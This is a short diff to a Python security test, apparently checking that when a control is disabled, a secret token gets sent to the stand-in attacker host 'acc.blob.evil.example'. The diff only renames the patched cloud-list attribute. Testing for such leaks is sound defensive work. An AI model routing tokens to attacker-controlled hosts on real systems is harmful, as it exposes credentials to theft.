@@ -108,7 +108,7 @@ def test_fault_365_control_without_the_function_the_token_goes_to_evil_example(
     server: RecordingServer, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(stores, "decide", lambda *_: None)
-    monkeypatch.setattr(azure, "_CLOUDS", ("evil.example",))
+    monkeypatch.setattr(azure, "AZURE_CLOUDS", ("evil.example",))
     send_to(stores_of(), EVIL[0])
     assert {each.host for each in server.sent} == {"acc.blob.evil.example"}
     assert SECRET in server.secrets
